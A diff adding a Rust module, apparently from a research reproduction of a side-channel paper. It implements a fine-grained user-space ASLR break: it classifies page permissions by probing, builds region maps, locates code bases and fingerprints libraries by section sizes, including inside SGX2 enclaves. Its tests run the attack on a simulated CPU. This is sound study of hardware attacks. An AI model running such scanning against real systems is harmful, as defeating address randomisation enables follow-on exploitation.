@@ -1,0 +1,380 @@
+//! Fine-grained user-space ASLR break (§IV-F, Fig. 7).
+//!
+//! Linearly probes 4 KiB-aligned candidates, classifying each page with
+//! the permission primitive (load pass + store pass), merges equal
+//! classes into regions, and fingerprints libraries by their
+//! section-size signatures. Works identically inside an SGX2 enclave —
+//! the enclave only removes the `/proc` oracle, which the attack never
+//! uses.
+
+use core::fmt;
+
+use avx_mmu::VirtAddr;
+use avx_os::process::{ImageSignature, PermClass};
+
+use crate::primitives::{PermissionAttack, ProbedPerm};
+use crate::prober::Prober;
+
+/// A classified user-space region (merged consecutive pages).
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub struct UserRegion {
+    /// First page of the region.
+    pub start: VirtAddr,
+    /// One past the last byte.
+    pub end: VirtAddr,
+    /// Detected permission class.
+    pub perm: ProbedPerm,
+}
+
+impl UserRegion {
+    /// Region length in bytes.
+    #[must_use]
+    pub fn len(&self) -> u64 {
+        self.end.as_u64() - self.start.as_u64()
+    }
+
+    /// `true` for zero-length regions (never produced by the scanner).
+    #[must_use]
+    pub fn is_empty(&self) -> bool {
+        self.len() == 0
+    }
+}
+
+impl fmt::Display for UserRegion {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(
+            f,
+            "{:012x}-{:012x} {}",
+            self.start.as_u64(),
+            self.end.as_u64(),
+            self.perm
+        )
+    }
+}
+
+/// The merged region map of a scanned window (the right side of Fig. 7).
+#[derive(Clone, Debug, Default)]
+pub struct RegionMap {
+    /// Regions in address order.
+    pub regions: Vec<UserRegion>,
+}
+
+impl RegionMap {
+    /// Only the mapped (non-`NoneOrUnmapped`) regions.
+    #[must_use]
+    pub fn mapped_regions(&self) -> Vec<&UserRegion> {
+        self.regions
+            .iter()
+            .filter(|r| r.perm != ProbedPerm::NoneOrUnmapped)
+            .collect()
+    }
+
+    /// The region covering `addr`, if any.
+    #[must_use]
+    pub fn region_at(&self, addr: VirtAddr) -> Option<&UserRegion> {
+        self.regions
+            .iter()
+            .find(|r| addr >= r.start && addr < r.end)
+    }
+}
+
+/// The user-space scanner.
+#[derive(Clone, Copy, Debug)]
+pub struct UserSpaceScanner {
+    /// Page classifier.
+    pub permission: PermissionAttack,
+    /// Per-page record-keeping overhead (cycles).
+    pub per_page_overhead: u64,
+}
+
+impl UserSpaceScanner {
+    /// Builds a scanner around a calibrated permission attack.
+    ///
+    /// The per-page strategy is upgraded to min-of-2: the §IV-F scan
+    /// covers hundreds of thousands of pages, so single interrupt
+    /// spikes would otherwise split large regions and break the
+    /// section-size signatures (the paper likewise probes the space
+    /// twice "to reduce noise").
+    #[must_use]
+    pub fn new(mut permission: PermissionAttack) -> Self {
+        permission.strategy = crate::prober::ProbeStrategy::MinOf(2);
+        Self {
+            permission,
+            per_page_overhead: 60,
+        }
+    }
+
+    /// Scans `pages` pages from `start` and merges classes into regions.
+    pub fn scan<P: Prober + ?Sized>(
+        &self,
+        p: &mut P,
+        start: VirtAddr,
+        pages: u64,
+    ) -> RegionMap {
+        let mut map = RegionMap::default();
+        let mut current: Option<UserRegion> = None;
+        for i in 0..pages {
+            let page = start.wrapping_add(i * 4096);
+            let class = self.permission.classify_page(p, page);
+            p.spend(self.per_page_overhead);
+            match current.as_mut() {
+                Some(region) if region.perm == class => {
+                    region.end = page.wrapping_add(4096);
+                }
+                _ => {
+                    if let Some(done) = current.take() {
+                        map.regions.push(done);
+                    }
+                    current = Some(UserRegion {
+                        start: page,
+                        end: page.wrapping_add(4096),
+                        perm: class,
+                    });
+                }
+            }
+        }
+        if let Some(done) = current {
+            map.regions.push(done);
+        }
+        map
+    }
+
+    /// Early-exit search for the first mapped page in an ASLR window —
+    /// the §IV-F "find the code section" step. Returns the first page
+    /// whose load probe classifies as readable.
+    pub fn find_first_mapped<P: Prober + ?Sized>(
+        &self,
+        p: &mut P,
+        window_start: VirtAddr,
+        window_pages: u64,
+    ) -> Option<VirtAddr> {
+        for i in 0..window_pages {
+            let page = window_start.wrapping_add(i * 4096);
+            let class = self.permission.classify_page(p, page);
+            p.spend(self.per_page_overhead);
+            if class != ProbedPerm::NoneOrUnmapped {
+                return Some(page);
+            }
+        }
+        None
+    }
+}
+
+/// A fingerprint match.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub struct LibraryMatch {
+    /// Matched image name.
+    pub name: &'static str,
+    /// Detected load base.
+    pub base: VirtAddr,
+}
+
+/// Signature-based library identification (§IV-F: "we used sections'
+/// sizes as signatures for detecting libraries").
+#[derive(Clone, Debug)]
+pub struct LibraryMatcher {
+    signatures: Vec<ImageSignature>,
+}
+
+impl LibraryMatcher {
+    /// Builds a matcher over known image signatures.
+    #[must_use]
+    pub fn new(signatures: Vec<ImageSignature>) -> Self {
+        Self { signatures }
+    }
+
+    /// Finds every signature occurrence in a region map.
+    ///
+    /// A signature matches a window of consecutive detected regions when
+    /// each section's class and size line up; the trailing `rw-` section
+    /// may be larger than the signature (hidden allocator pages merge
+    /// into it — the Fig. 7 "additional detected pages").
+    #[must_use]
+    pub fn find_all(&self, map: &RegionMap) -> Vec<LibraryMatch> {
+        let mut out = Vec::new();
+        for sig in &self.signatures {
+            let pattern: Vec<(ProbedPerm, u64)> = sig
+                .sections
+                .iter()
+                .map(|s| (detected_class(s.perm), s.size))
+                .collect();
+            'windows: for w in 0..map.regions.len().saturating_sub(pattern.len() - 1) {
+                for (k, &(class, size)) in pattern.iter().enumerate() {
+                    let region = &map.regions[w + k];
+                    if region.perm != class {
+                        continue 'windows;
+                    }
+                    let last = k == pattern.len() - 1;
+                    // Trailing rw-/none regions may exceed the
+                    // signature (hidden allocator pages, inter-library
+                    // gaps merge into them).
+                    let size_ok = if last
+                        && matches!(
+                            class,
+                            ProbedPerm::ReadWrite | ProbedPerm::NoneOrUnmapped
+                        ) {
+                        region.len() >= size
+                    } else {
+                        region.len() == size
+                    };
+                    if !size_ok {
+                        continue 'windows;
+                    }
+                }
+                out.push(LibraryMatch {
+                    name: sig.name,
+                    base: map.regions[w].start,
+                });
+            }
+        }
+        out.sort_by_key(|m| m.base);
+        out
+    }
+}
+
+/// Maps a ground-truth permission class onto what the channel detects.
+fn detected_class(perm: PermClass) -> ProbedPerm {
+    match perm {
+        PermClass::ReadExec | PermClass::ReadOnly => ProbedPerm::ReadLike,
+        PermClass::ReadWrite => ProbedPerm::ReadWrite,
+        PermClass::None => ProbedPerm::NoneOrUnmapped,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::prober::SimProber;
+    use avx_mmu::{AddressSpace, PageSize, PteFlags};
+    use avx_os::process::build_process;
+    use avx_os::ExecutionContext;
+    use avx_uarch::{CpuProfile, Machine, NoiseModel};
+
+    /// Builds a process and returns a prober + truth + a scan anchor a
+    /// few pages below libc.
+    fn setup(seed: u64) -> (SimProber, avx_os::ProcessTruth) {
+        let mut space = AddressSpace::new();
+        let truth = build_process(
+            &mut space,
+            &ImageSignature::fig7_app(),
+            &ImageSignature::standard_set(),
+            seed,
+        );
+        // The attacker's own page for calibration.
+        let own = VirtAddr::new_truncate(0x5400_0000_0000);
+        space.map(own, PageSize::Size4K, PteFlags::user_ro()).unwrap();
+        let mut m = Machine::new(CpuProfile::ice_lake_i7_1065g7(), space, seed);
+        m.set_noise(NoiseModel::none());
+        (SimProber::new(m), truth)
+    }
+
+    const OWN: u64 = 0x5400_0000_0000;
+
+    #[test]
+    fn region_map_reproduces_fig7_libc() {
+        let (mut p, truth) = setup(1);
+        let perm = PermissionAttack::calibrate(&mut p, VirtAddr::new_truncate(OWN));
+        let scanner = UserSpaceScanner::new(perm);
+        let libc_base = truth.library_base("libc.so.6").unwrap();
+        let total_pages = (ImageSignature::libc().span() + 0x4000) / 4096;
+        let map = scanner.scan(&mut p, libc_base, total_pages);
+
+        // Expect: ReadLike(0x1e7000), None(0x200000), ReadLike(0x4000),
+        // ReadWrite(0x2000 visible + 0x2000 hidden = 0x4000).
+        let mapped: Vec<_> = map.regions.iter().collect();
+        assert_eq!(mapped[0].perm, ProbedPerm::ReadLike);
+        assert_eq!(mapped[0].len(), 0x1e_7000);
+        assert_eq!(mapped[1].perm, ProbedPerm::NoneOrUnmapped);
+        assert_eq!(mapped[1].len(), 0x20_0000);
+        assert_eq!(mapped[2].perm, ProbedPerm::ReadLike);
+        assert_eq!(mapped[2].len(), 0x4000);
+        assert_eq!(mapped[3].perm, ProbedPerm::ReadWrite);
+        assert_eq!(
+            mapped[3].len(),
+            0x4000,
+            "hidden allocator pages detected beyond the maps file"
+        );
+    }
+
+    #[test]
+    fn find_first_mapped_locates_code_base() {
+        let (mut p, truth) = setup(2);
+        let perm = PermissionAttack::calibrate(&mut p, VirtAddr::new_truncate(OWN));
+        let scanner = UserSpaceScanner::new(perm);
+        let base = truth.app.base;
+        // Search a window that starts shortly before the app.
+        let window_start = VirtAddr::new_truncate(base.as_u64() - 16 * 4096);
+        let found = scanner
+            .find_first_mapped(&mut p, window_start, 64)
+            .expect("app text found");
+        assert_eq!(found, base);
+    }
+
+    #[test]
+    fn library_fingerprinting_identifies_all_standard_libs() {
+        let (mut p, truth) = setup(3);
+        let perm = PermissionAttack::calibrate(&mut p, VirtAddr::new_truncate(OWN));
+        let scanner = UserSpaceScanner::new(perm);
+        // Scan the whole library window from the first lib to past the last.
+        let first = truth.libraries.first().unwrap().base;
+        let last = truth.libraries.last().unwrap();
+        let span = last.base.as_u64() + last.signature.span() + 0x10_0000
+            - first.as_u64();
+        let map = scanner.scan(&mut p, first, span / 4096);
+        let matcher = LibraryMatcher::new(ImageSignature::standard_set());
+        let matches = matcher.find_all(&map);
+        for lib in &truth.libraries {
+            let found = matches
+                .iter()
+                .find(|m| m.name == lib.signature.name)
+                .unwrap_or_else(|| panic!("{} not matched", lib.signature.name));
+            assert_eq!(found.base, lib.base, "{}", lib.signature.name);
+        }
+    }
+
+    #[test]
+    fn sgx2_context_scan_still_works() {
+        let mut space = AddressSpace::new();
+        let truth = build_process(
+            &mut space,
+            &ImageSignature::fig7_app(),
+            &[ImageSignature::libc()],
+            9,
+        );
+        let own = VirtAddr::new_truncate(OWN);
+        space.map(own, PageSize::Size4K, PteFlags::user_ro()).unwrap();
+        let mut m = Machine::new(CpuProfile::ice_lake_i7_1065g7(), space, 9);
+        m.set_noise(NoiseModel::none());
+        let mut p = SimProber::with_context(m, ExecutionContext::sgx2());
+        assert!(!p.context().has_proc_oracle(), "no /proc inside SGX");
+        let perm = PermissionAttack::calibrate(&mut p, own);
+        let scanner = UserSpaceScanner::new(perm);
+        let libc = truth.library_base("libc.so.6").unwrap();
+        let map = scanner.scan(&mut p, libc, 8);
+        assert_eq!(map.regions[0].perm, ProbedPerm::ReadLike);
+    }
+
+    #[test]
+    fn region_display_matches_fig7_style() {
+        let r = UserRegion {
+            start: VirtAddr::new_truncate(0x7f3e_eed4_d000),
+            end: VirtAddr::new_truncate(0x7f3e_ef13_8000),
+            perm: ProbedPerm::ReadLike,
+        };
+        assert_eq!(r.to_string(), "7f3eeed4d000-7f3eef138000 (r--|r-x)");
+    }
+
+    #[test]
+    fn region_map_lookup() {
+        let (mut p, truth) = setup(4);
+        let perm = PermissionAttack::calibrate(&mut p, VirtAddr::new_truncate(OWN));
+        let scanner = UserSpaceScanner::new(perm);
+        let libc = truth.library_base("libc.so.6").unwrap();
+        let map = scanner.scan(&mut p, libc, 8);
+        assert!(map.region_at(libc).is_some());
+        assert!(map
+            .region_at(VirtAddr::new_truncate(0x10_0000))
+            .is_none());
+        assert!(!map.mapped_regions().is_empty());
+    }
+}
